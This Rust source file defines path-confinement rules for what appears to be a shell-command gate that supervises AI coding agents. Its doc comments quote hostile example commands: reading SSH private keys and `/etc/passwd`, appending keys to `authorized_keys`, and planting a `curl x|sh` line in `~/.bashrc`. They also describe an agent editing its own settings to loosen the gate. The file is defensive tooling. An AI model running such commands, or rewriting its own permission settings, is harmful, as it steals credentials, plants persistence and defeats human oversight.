//! BG101–BG109: path confinement. Every path a command names — arguments, redirect
//! targets, the program, `cd` targets, assignment and option values — must stay
//! inside the project root, an allowed folder or the safe list; reads of read-only
//! folders pass, writes there ask; sensitive paths ask on read and deny on write.
//! One word gives at most one finding, with the most specific code.

use crate::declare_rule;
use crate::model::command::SimpleCommand;
use crate::model::path_roles::{Access, PathUse, Role};
use crate::model::paths::{Formed, Resolved, Via};
use crate::policy::paths::Place;
use crate::rules::{Checker, Rule};
use crate::verdict::Decision;

declare_rule! {
    /// ## What it does
    /// Asks when a command names an absolute path outside the project root, the
    /// allowed folders and the safe list (`/dev/null`, `/dev/stdout`, ...), for
    /// reading or writing. The program itself counts: `/tmp/x.sh` is judged like any
    /// path, while the standard system folders (`/bin`, `/usr/bin`, `/usr/local/bin`,
    /// `/sbin`, `/usr/sbin`) are fine as program names.
    ///
    /// ## Why
    /// An agent working on a project has no business outside it unless the user says
    /// so (`--allow-path`, `allowed_paths`, `read_only_paths`).
    ///
    /// ## Example
    /// - `cat /etc/passwd` → ask
    /// - `ls 2>/dev/null` → allow
    /// - `/usr/bin/env python3 x.py` → allow
    pub static PATH_OUTSIDE_ROOT = {
        code: "BG101",
        name: "path-outside-root",
        default: Ask,
        capability: FilesystemRead,
        summary: "names an absolute path outside the project root",
    };
}

declare_rule! {
    /// ## What it does
    /// Asks when a relative path's `..` components climb out of the project root
    /// (`cat ../../etc/passwd`, `cp x ../other/`), judged against the directory the
    /// command runs in (after any `cd`). `a/../b` inside the root is fine.
    ///
    /// ## Why
    /// `..` is the simplest way out of a project and the easiest to miss in review.
    ///
    /// ## Example
    /// - `cat ../secrets.txt` → ask (run at the root)
    /// - `cd src && cat ../Cargo.toml` → allow
    pub static PARENT_ESCAPE = {
        code: "BG102",
        name: "parent-escape",
        default: Ask,
        capability: FilesystemRead,
        summary: "a relative path's `..` leaves the project root",
    };
}

declare_rule! {
    /// ## What it does
    /// Asks when a path is named through the home directory: `~`, `~/x`, `~user`,
    /// `$HOME`, `${HOME}`, also inside double quotes — unless it resolves inside the
    /// root or an allowed folder.
    ///
    /// ## Why
    /// The home directory holds the user's keys, shell start-up files and every other
    /// project. Agents reach for it casually (`cat ~/.bashrc`, `ls ~`).
    ///
    /// ## Example
    /// - `ls ~/Downloads` → ask
    /// - `echo ~` → allow: `echo`'s arguments are text
    pub static HOME_EXPANSION = {
        code: "BG103",
        name: "home-expansion",
        default: Ask,
        capability: FilesystemRead,
        summary: "names a path through `~` or `$HOME` outside the project",
    };
}

declare_rule! {
    /// ## What it does
    /// Asks when a path starts with a path-bearing variable (`$TMPDIR`, `$OLDPWD`,
    /// `~-`, `$XDG_CONFIG_HOME`, ...) that resolves outside the project, or whose
    /// value the gate was not given. Variables assigned earlier in the same script
    /// are followed (`D=/etc; cat $D/passwd` is judged as `/etc/passwd`).
    ///
    /// ## Why
    /// A variable hides where a path points; fail closed unless its value is known
    /// and inside.
    ///
    /// ## Example
    /// - `cat $TMPDIR/build.log` → ask
    /// - `echo $TMPDIR` → allow
    pub static PATH_VARIABLE = {
        code: "BG104",
        name: "path-variable",
        default: Ask,
        capability: FilesystemRead,
        summary: "names a path through a variable ($TMPDIR, $OLDPWD, XDG...) outside or unknown",
    };
}

declare_rule! {
    /// ## What it does
    /// Asks when a redirect reads or writes a file outside the project: `>`, `>>`,
    /// `>|`, `&>`, `&>>`, `<>`, `2>`, `<`. Safe targets (`/dev/null`, `/dev/stderr`)
    /// and fd duplications (`2>&1`) are fine.
    ///
    /// ## Why
    /// Writes hide in the redirects of "read-only" commands: `cat x > /tmp/y`,
    /// `env > f`, `echo k >> ~/.ssh/authorized_keys`.
    ///
    /// ## Example
    /// - `cargo build 2> /tmp/log` → ask
    /// - `cargo build 2>&1 | tail` → allow
    pub static REDIRECT_OUTSIDE_ROOT = {
        code: "BG105",
        name: "redirect-outside-root",
        default: Ask,
        capability: FilesystemWrite,
        summary: "a redirect reads or writes a file outside the project",
    };
}

declare_rule! {
    /// ## What it does
    /// Asks when a quoted argument names an existing path outside the project
    /// (`cat '/etc/passwd'`). Quoted arguments are often patterns or messages
    /// (`grep "// @ts-ignore"`, `sed 's/a\/b/c/'`), so a quoted word is only a path
    /// finding when such a path exists on disk.
    ///
    /// ## Why
    /// Quoting must not be a way around the path rules, and patterns must not nag.
    ///
    /// ## Example
    /// - `cat "/etc/hosts"` → ask
    /// - `grep -rn "// TODO" src` → allow
    pub static QUOTED_PATH_OUTSIDE = {
        code: "BG106",
        name: "quoted-path-exists-outside",
        default: Ask,
        capability: FilesystemRead,
        summary: "a quoted argument names an existing path outside the project",
    };
}

declare_rule! {
    /// ## What it does
    /// Asks when a command reads a sensitive path and denies when it writes one —
    /// wherever it is, even inside the root or an allowed folder: `~/.ssh`,
    /// `~/.gnupg`, `~/.gpg`, `~/.aws`, `~/.config/gcloud`, `~/.kube`, `~/.docker/config.json`,
    /// `~/.netrc`, `~/.git-credentials`, shell start-up files (`~/.bashrc`,
    /// `~/.profile`, `~/.zshrc`, ...), `.env` and `.env.*` files in any folder
    /// (`.env.example`, `.env.sample`, `.env.template` and `.env.dist` are templates
    /// and pass), and paths added with `sensitive_paths`. Writing the gate's own
    /// policy (`bashgate.toml` at the root, the user's bashgate config folder) or
    /// an agent's settings (`.claude/settings.json`, `.claude/settings.local.json`,
    /// `.mcp.json`, `.gemini/settings.json`, `.codex/hooks.json`,
    /// `.codex/config.toml`, `.cursor/mcp.json`, `.cursor/hooks.json`,
    /// `.vscode/mcp.json`, in the project or the home folder, and `~/.claude.json`:
    /// where the gate's hook, the agent's permissions and the MCP servers it starts
    /// are kept) is denied too. A glob counts for what it can match in its folder:
    /// `cat .e*` reads the project's `.env` (as bash globs, `*` alone skips names
    /// starting with `.`).
    ///
    /// ## Why
    /// Credentials leak through reads; persistence and privilege come through writes
    /// (`echo key >> ~/.ssh/authorized_keys`, `echo 'curl x|sh' >> ~/.bashrc`). An
    /// agent that could edit `bashgate.toml`, or its own settings, could loosen or
    /// remove its own gate.
    ///
    /// ## Example
    /// - `cat ~/.ssh/id_rsa` → ask
    /// - `echo hi > ~/.bashrc` → deny
    /// - `cat .env` → ask
    /// - `cat .env.example` → allow: a template holds no secrets
    pub static SENSITIVE_PATH = {
        code: "BG107",
        name: "sensitive-path",
        default: Ask,
        capability: FilesystemRead,
        summary: "reads (ask) or writes (deny) a sensitive path such as ~/.ssh or .env",
    };
}

declare_rule! {
    /// ## What it does
    /// Asks when `cd`/`pushd` leaves the project (to a place outside the root and the
    /// allowed folders, `cd` alone or `cd ~`), or goes somewhere only known at run
    /// time (`cd $X`, `cd "$(dirname x)"`); and for relative paths named after such a
    /// `cd`. The working directory is tracked in order; a subshell's or a pipeline
    /// stage's `cd` does not leak out. A call of a function or alias defined in the
    /// command whose body changes directory is such a `cd` (`up() { cd ..; }; up`),
    /// and a function named `cd` is not the builtin: calling it is not tracked. So
    /// is a `cd` whose operand `CDPATH` may send anywhere (`CDPATH=/etc cd ssh`).
    ///
    /// ## Why
    /// After `cd /`, every relative path is outside the project; after `cd $X`,
    /// nobody knows where `rm -rf build` points.
    ///
    /// ## Example
    /// - `cd /tmp && ls` → ask
    /// - `cd src && cd .. && ls` → allow
    pub static CWD_ESCAPE = {
        code: "BG108",
        name: "cwd-escape",
        default: Ask,
        capability: FilesystemRead,
        summary: "cd leaves the project or goes somewhere unknown",
    };
}

declare_rule! {
    /// ## What it does
    /// Asks when a path inside the project goes through a symbolic link that points
    /// outside it (`cat etc-link/passwd` where `etc-link -> /etc`). The longest
    /// existing prefix of the path is resolved on disk; only words with a `/` are
    /// checked, so plain words cost no system call.
    ///
    /// ## Why
    /// A link planted in the project turns an innocent-looking relative path into a
    /// read or write anywhere.
    ///
    /// ## Example
    /// - `cat notes/todo.txt` → ask: where `notes` is a link to a folder outside
    /// - `cat src/main.rs` → allow
    pub static SYMLINK_ESCAPE = {
        code: "BG109",
        name: "symlink-escape",
        default: Ask,
        capability: FilesystemRead,
        summary: "a path inside the project goes through a symlink that points outside",
    };
}

/// Judges every path the command names.
pub fn check(cmd: &SimpleCommand, cx: &mut Checker) {
    if cmd.moves_cwd
        && let Some(word) = cmd.words.first()
    {
        let name = word.value().unwrap_or("?");
        let message = if cmd.shadowed {
            format!(
                "calls `{name}`, defined in the command, which changes the working directory: where the commands after it run is unknown"
            )
        } else {
            format!(
                "`{name}` goes to a directory only known at run time (`CDPATH` may send it anywhere): where the commands after it run is unknown"
            )
        };
        cx.report(&CWD_ESCAPE, word.span, message);
    }
    let uses = cx.path_uses(cmd);
    if uses.is_empty() {
        return;
    }
    let cwd = cx.paths.cwd_of(&cmd.context.cwd, cx.cwd);
    for usage in uses.iter() {
        judge(usage, cwd, cmd.context.relaxed_globs, cx);
        // `${X:-/etc/passwd}` is `/etc/passwd` when X is unset: judge the other
        // values the word can take too.
        for word in cx.paths.alternatives(&usage.word, cwd) {
            let other = PathUse {
                word: std::borrow::Cow::Owned(word),
                access: usage.access,
                role: usage.role,
            };
            judge(&other, cwd, cmd.context.relaxed_globs, cx);
        }
    }
}

/// Judges one path use; `relaxed_globs`: an earlier command widened globbing.
fn judge(usage: &PathUse, cwd: Option<&std::path::Path>, relaxed_globs: bool, cx: &mut Checker) {
    let word = &usage.word;
    let span = word.span;
    // A glob inside the project may match a symlink that leads out of it, or a
    // sensitive file (`cat .e*` matching `.env`).
    let scan = cx.paths.glob_scan(word, cwd, relaxed_globs);
    if let Some(matched) = scan
        .sensitive
        .iter()
        .find(|m| !own_env_file_untouched(usage.access, Place::Inside, m, false))
    {
        // The symlinks the glob can match are judged too, below: each read
        // outside needs its own finding.
        report_sensitive(cx, usage.access.writes(), span, matched, true);
    }
    let mut escaped = false;
    for target in scan.link_targets {
        if matches!(
            cx.paths.place(&target),
            Place::Inside | Place::Allowed | Place::Safe
        ) {
            continue;
        }
        escaped = true;
        cx.report_path(
            &SYMLINK_ESCAPE,
            SYMLINK_ESCAPE.default,
            span,
            format!(
                "the glob can match a symlink that leads outside the project: {}",
                target.display()
            ),
            &target,
        );
    }
    if escaped {
        return;
    }
    let resolved = cx.paths.resolve(word, cwd);
    let (path, via, glob) = match resolved {
        Resolved::NotAPath => return,
        Resolved::Unknown { reason, via } => {
            if via == Via::Relative && !looks_relevant(usage) {
                return;
            }
            let rule = match (usage.role, via) {
                (Role::Directory, _) | (_, Via::Relative) => &CWD_ESCAPE,
                (_, Via::Home) => &HOME_EXPANSION,
                _ => &PATH_VARIABLE,
            };
            cx.report(
                rule,
                span,
                format!("{reason}: where this path points is unknown"),
            );
            return;
        }
        Resolved::Path { path, via, glob } => (path, via, glob),
    };
    let text: std::borrow::Cow<str> = match word.value() {
        Some(value) => value.into(),
        None => word.display().into(),
    };
    if text.contains("://") {
        // A URL, not a path.
        return;
    }
    // Quoted literal text read from is a path only if such a path exists (patterns,
    // messages); one written to is a path whether or not it exists yet.
    let literal = matches!(via, Via::Absolute | Via::Relative);
    if word.has_quotes
        && literal
        && usage.role == Role::Argument
        && !usage.access.writes()
        && !glob
        && !path.exists()
    {
        return;
    }
    if usage.role == Role::Program && {
        // The parent once: `Path::parent` parses the path into components.
        let parent = path.parent();
        crate::model::command::SYSTEM_BIN_DIRS.iter().any(|d| {
            let d = std::path::Path::new(d);
            path == d || parent == Some(d)
        })
    } {
        return;
    }
    // Whether the path is in normal form, decided once for the questions below.
    let named = Formed::new(&path);
    let mut place = cx.paths.place(named);
    let mut real = None;
    if matches!(place, Place::Inside | Place::Allowed) {
        // Any word inside may go through a planted symlink (`cat config` where
        // `config -> ~/.aws/credentials`), and a glob may match one.
        real = if glob { None } else { cx.real_path(named) };
    }
    let checked = real.as_deref().unwrap_or(&path);
    let checked_form = match &real {
        Some(r) => Formed::new(r),
        None => named,
    };
    if real.is_some() {
        place = cx.paths.place(checked_form);
    }
    let writes = usage.access.writes();
    // The path as named and, when a symlink was followed, where it leads.
    let through_link = real.is_some();
    if (cx.paths.is_sensitive(checked_form) || through_link && cx.paths.is_sensitive(named))
        && !own_env_file_untouched(usage.access, place, checked, through_link)
    {
        report_sensitive(cx, writes, span, checked, false);
        return;
    }
    if writes
        && (cx.paths.is_write_protected(checked_form)
            || through_link && cx.paths.is_write_protected(named))
    {
        cx.report_path(
            &SENSITIVE_PATH,
            Decision::Deny,
            span,
            format!(
                "writes the gate's policy or an agent's settings: {}",
                checked.display()
            ),
            checked,
        );
        mark_write(cx, writes);
        return;
    }
    let escape = match place {
        Place::Inside | Place::Allowed | Place::Safe => false,
        Place::ReadOnly => writes,
        Place::Outside => true,
    };
    if !escape {
        return;
    }
    let rule: &'static Rule = if real.is_some() {
        &SYMLINK_ESCAPE
    } else {
        match (usage.role, via) {
            (Role::Directory, _) => &CWD_ESCAPE,
            (Role::Redirect, _) => &REDIRECT_OUTSIDE_ROOT,
            (_, Via::Home) => &HOME_EXPANSION,
            (_, Via::Variable) => &PATH_VARIABLE,
            (Role::Argument, Via::Absolute) if word.has_quotes => &QUOTED_PATH_OUTSIDE,
            (_, Via::Absolute) => &PATH_OUTSIDE_ROOT,
            (_, Via::Relative) if text.split('/').any(|c| c == "..") => &PARENT_ESCAPE,
            (_, Via::Relative) => &CWD_ESCAPE,
        }
    };
    let what = match (place, writes) {
        (Place::ReadOnly, _) => "writes to a read-only path",
        (_, true) => "writes outside the project:",
        (_, false) => "reaches outside the project:",
    };
    cx.report_path(
        rule,
        rule.default,
        span,
        format!("{what} {}", checked.display()),
        checked,
    );
    mark_write(cx, writes);
}

/// Reports a read (ask) or write (deny) of the sensitive `path`, which a glob can
/// match when `by_glob`.
fn report_sensitive(
    cx: &mut Checker,
    writes: bool,
    span: crate::verdict::Span,
    path: &std::path::Path,
    by_glob: bool,
) {
    let (decision, verb) = if writes {
        (Decision::Deny, "writes")
    } else {
        (Decision::Ask, "reads")
    };
    let message = if by_glob {
        format!(
            "the glob can match the sensitive path {}: it {verb} it",
            path.display()
        )
    } else {
        format!("{verb} the sensitive path {}", path.display())
    };
    cx.report_path(&SENSITIVE_PATH, decision, span, message, path);
    mark_write(cx, writes);
}

/// A path finding about a write is a write, whatever the rule's usual capability.
fn mark_write(cx: &mut Checker, writes: bool) {
    if writes && let Some(last) = cx.findings.last_mut() {
        last.capability = crate::verdict::Capability::FilesystemWrite;
    }
}

/// The project's own env file (`.env`, `.env.local` inside the root, not through a
/// symlink) tested for existence (`[[ -f .env ]]`, `stat .env`) or appended to
/// (`echo DEBUG=1 >> .env.local`): neither reads the secrets in it, so it is judged
/// like any file of the project. Reading it, or truncating it, is still sensitive.
fn own_env_file_untouched(
    access: Access,
    place: Place,
    path: &std::path::Path,
    through_link: bool,
) -> bool {
    let env_file = path
        .file_name()
        .and_then(|n| n.to_str())
        .is_some_and(|n| n == ".env" || n.starts_with(".env."));
    env_file
        && !through_link
        && matches!(place, Place::Inside)
        && matches!(access, Access::Metadata | Access::Append)
}

/// After `cd` to an unknown place, only path-like relative words are worth asking
/// about (`--release` and `build` are not).
fn looks_relevant(usage: &PathUse) -> bool {
    match usage.role {
        Role::Redirect | Role::Directory | Role::OptionValue => true,
        _ => usage
            .word
            .value()
            .is_some_and(crate::model::path_roles::looks_like_path),
    }
}
